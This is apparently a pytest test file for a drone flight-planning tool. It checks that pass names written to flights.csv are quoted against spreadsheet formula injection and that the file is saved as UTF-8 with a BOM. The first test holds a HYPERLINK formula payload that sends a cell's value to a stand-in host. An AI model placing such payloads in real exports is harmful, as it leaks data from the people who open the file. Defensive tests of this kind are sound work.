"""flights.csv, the table of a plan cut into flights, is opened in a spreadsheet: its pass names come
from the asset file (a pier's or the pipeline's 'name') and must not run there as formulas."""

from __future__ import annotations

import csv
from dataclasses import replace

from missions.planning import Requirement, get_camera, load_asset
from missions.planning.export import write_flights
from missions.planning.planner import plan_flights

from .conftest import EXAMPLES


def test_pass_names_cannot_become_spreadsheet_formulas(tmp_path) -> None:
    """Before: a pass named '=HYPERLINK(...)' (an asset named so in its file) went into flights.csv's
    first_pass/last_pass cells as it was; now quoted by csv_safe, as every other CSV of the project."""
    asset = load_asset(EXAMPLES / "pipeline.geojson")
    flights = plan_flights(asset, get_camera("dji_h20_zoom"), Requirement(crack_width_mm=0.3), "px4")
    assert len(flights) >= 2
    evil = '=HYPERLINK("http://x.example/?"&A1,"open")'
    flights = [replace(p, passes=(replace(p.passes[0], name=evil),) + p.passes[1:-1]
                       + (replace(p.passes[-1], name="@SUM(A1)"),)) for p in flights]
    write_flights(flights, tmp_path / "out")
    with open(tmp_path / "out" / "flights.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert {r["first_pass"] for r in rows} == {"'" + evil}
    assert {r["last_pass"] for r in rows} == {"'@SUM(A1)"}
    assert all(float(r["estimated_min"]) > 0 for r in rows)


def test_flights_csv_opens_in_a_spreadsheet_with_its_accents(tmp_path) -> None:
    """Before: written in the locale's encoding without the BOM the other CSVs carry (skyinspect.spreadsheet),
    so Excel showed a pass on 'Pfeiler Süd' as 'Pfeiler SÃ¼d' (and a Windows code page could not write
    'Łódź' at all); now UTF-8 with the BOM, as workorders.csv."""
    asset = load_asset(EXAMPLES / "pipeline.geojson")
    flights = plan_flights(asset, get_camera("dji_h20_zoom"), Requirement(crack_width_mm=0.3), "px4")
    flights = [replace(p, passes=(replace(p.passes[0], name="Pfeiler Süd, Łódź"),) + p.passes[1:]) for p in flights]
    write_flights(flights, tmp_path / "out")
    raw = (tmp_path / "out" / "flights.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with open(tmp_path / "out" / "flights.csv", newline="", encoding="utf-8-sig") as f:
        assert {r["first_pass"] for r in csv.DictReader(f)} == {"Pfeiler Süd, Łódź"}
